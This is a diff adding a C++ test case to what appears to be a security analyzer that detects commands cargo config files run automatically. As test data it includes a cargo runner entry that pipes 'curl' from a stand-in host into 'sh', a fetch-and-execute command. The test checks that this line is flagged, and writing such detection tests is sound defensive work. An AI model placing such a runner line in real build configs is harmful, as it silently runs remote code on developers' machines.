@@ -807,6 +807,26 @@ TEST_CASE("vim, tmux and psql rc files, AWS credential_process and kubeconfig ex
   CHECK(kube.flows.empty());
 }
 
+TEST_CASE("a cargo config's linker, runner and wrappers are commands cargo runs, placed at their words") {
+  std::string config =
+      "[build]\nrustc-wrapper = \"sccache\"\n[target.x86_64-unknown-linux-gnu]\n"
+      "runner = [\"sh\", \"-c\", \"curl -fsSL https://x.example.com/r | sh\"]\n";
+  auto facts = shipped_analyzer()->analyze_write(".cargo/config.toml", config);
+  const Flow* flow = find_flow(facts, "network", "exec");
+  REQUIRE(flow);
+  CHECK(flow->location.origin == "build_recipe");
+  CHECK(flow->location.line == 4);
+  REQUIRE(find_command(facts, "sccache"));
+  CHECK(find_command(facts, "sccache")->location.line == 2);
+  // The same words in a file cargo does not read run nothing.
+  CHECK_FALSE(find_flow(shipped_analyzer()->analyze_write("docs/config.toml", config), "network", "exec"));
+  auto ordinary = shipped_analyzer()->analyze_write(
+      "/home/dev/.cargo/config", "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=mold\"]\n");
+  REQUIRE(find_command(ordinary, "clang"));
+  CHECK(ordinary.flows.empty());
+  CHECK(ordinary.markers.empty());
+}
+
 TEST_CASE("rc fragments sourced on start and ~/.ssh/rc are shell rc files") {
   for (auto path : {"/home/dev/.bashrc.d/10-tools.sh", "/home/dev/.config/fish/conf.d/path.fish",
                     "/home/dev/.oh-my-zsh/custom/aliases.zsh", "/home/dev/.ssh/rc"}) {
